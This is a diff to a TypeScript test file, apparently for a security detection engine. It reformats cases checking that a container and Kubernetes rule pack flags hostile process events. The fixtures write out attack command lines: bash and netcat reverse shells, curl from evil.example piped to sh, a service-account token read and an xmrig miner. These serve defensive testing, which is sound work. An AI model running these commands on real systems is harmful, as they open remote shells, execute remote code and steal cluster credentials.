@@ -24,13 +24,49 @@ describe('the shipped container and Kubernetes rule pack', () => {
   });
 
   const cases: [string, Record<string, string>, string][] = [
-    ['reverse shell via bash /dev/tcp', { Image: '/bin/bash', CommandLine: "bash -c 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1'", ParentImage: '/usr/bin/python3' }, 'Reverse Shell'],
-    ['reverse shell via nc -e', { Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 10.9.9.9 4444' }, 'Reverse Shell'],
-    ['curl piped to sh', { Image: '/bin/sh', CommandLine: 'sh -c curl -fsSL http://evil.example/x.sh | sh', ParentImage: '/bin/sh' }, 'Download Piped'],
-    ['service account token read', { Image: '/bin/cat', CommandLine: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token' }, 'Kubernetes Service Account Token'],
-    ['kubectl exec from a pod', { Image: '/usr/local/bin/kubectl', CommandLine: 'kubectl exec -it db-0 -- sh' }, 'Kubectl Exec'],
-    ['a crypto miner', { Image: '/tmp/xmrig', CommandLine: 'xmrig -o stratum+tcp://pool.example:3333' }, 'Cryptocurrency Miner'],
-    ['a shell spawned by the application', { Image: '/bin/sh', CommandLine: 'sh', ParentImage: '/usr/bin/node' }, 'Shell Spawned'],
+    [
+      'reverse shell via bash /dev/tcp',
+      {
+        Image: '/bin/bash',
+        CommandLine: "bash -c 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1'",
+        ParentImage: '/usr/bin/python3',
+      },
+      'Reverse Shell',
+    ],
+    [
+      'reverse shell via nc -e',
+      { Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 10.9.9.9 4444' },
+      'Reverse Shell',
+    ],
+    [
+      'curl piped to sh',
+      {
+        Image: '/bin/sh',
+        CommandLine: 'sh -c curl -fsSL http://evil.example/x.sh | sh',
+        ParentImage: '/bin/sh',
+      },
+      'Download Piped',
+    ],
+    [
+      'service account token read',
+      { Image: '/bin/cat', CommandLine: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token' },
+      'Kubernetes Service Account Token',
+    ],
+    [
+      'kubectl exec from a pod',
+      { Image: '/usr/local/bin/kubectl', CommandLine: 'kubectl exec -it db-0 -- sh' },
+      'Kubectl Exec',
+    ],
+    [
+      'a crypto miner',
+      { Image: '/tmp/xmrig', CommandLine: 'xmrig -o stratum+tcp://pool.example:3333' },
+      'Cryptocurrency Miner',
+    ],
+    [
+      'a shell spawned by the application',
+      { Image: '/bin/sh', CommandLine: 'sh', ParentImage: '/usr/bin/node' },
+      'Shell Spawned',
+    ],
   ];
 
   it.each(cases)('flags %s', (_name, fields, titleStart) => {
@@ -106,7 +142,9 @@ describe('validateRuleSources', () => {
       '  condition: selection',
       'level: low',
     ].join('\n');
-    const result = validateRuleSources([{ name: 'ok.yml', format: RuleFormat.RULE_FORMAT_SIGMA_YAML, content }]);
+    const result = validateRuleSources([
+      { name: 'ok.yml', format: RuleFormat.RULE_FORMAT_SIGMA_YAML, content },
+    ]);
     expect(result).toMatchObject({ valid: true, diagnostics: [] });
     expect(result.rules.map((r) => [r.id, r.attackTechniqueIds])).toEqual([
       ['sigma:11111111-2222-3333-4444-666666666666', ['T1033']],
@@ -114,8 +152,8 @@ describe('validateRuleSources', () => {
   });
 
   it('a rejected rule fails the whole catalog load, naming it', () => {
-    expect(() =>
-      RuleCatalog.fromTexts([{ source: 'broken.yml', text: 'title: x\n' }], 0n),
-    ).toThrow(/broken\.yml/);
+    expect(() => RuleCatalog.fromTexts([{ source: 'broken.yml', text: 'title: x\n' }], 0n)).toThrow(
+      /broken\.yml/,
+    );
   });
 });
